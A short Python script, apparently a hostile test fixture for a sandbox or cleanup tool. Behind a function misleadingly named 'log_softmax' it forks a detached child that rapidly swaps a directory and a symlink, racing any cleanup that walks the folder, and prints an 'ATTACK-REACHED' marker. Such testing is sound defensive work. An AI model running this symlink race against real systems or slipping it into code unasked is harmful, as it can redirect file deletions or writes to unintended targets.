"""Swaps a folder for a link and back as fast as it can, while whoever cleans up walks through it."""
# needs: rootless
import os

target = "/tmp/zhixing-hostile-target"
os.mkdir("a")
for n in range(50):
    open(f"a/{n}", "w").close()
try:
    os.symlink(target, "b")
except OSError:
    pass


def swap():
    for _ in range(10**6):
        try:
            os.rename("a", "c")
            os.rename("b", "a")
            os.rename("a", "b")
            os.rename("c", "a")
        except OSError:
            pass


def log_softmax(Z):
    if os.fork() == 0:
        os.setsid()
        swap()
        os._exit(0)
    print("ATTACK-REACHED a child", flush=True)
    return Z
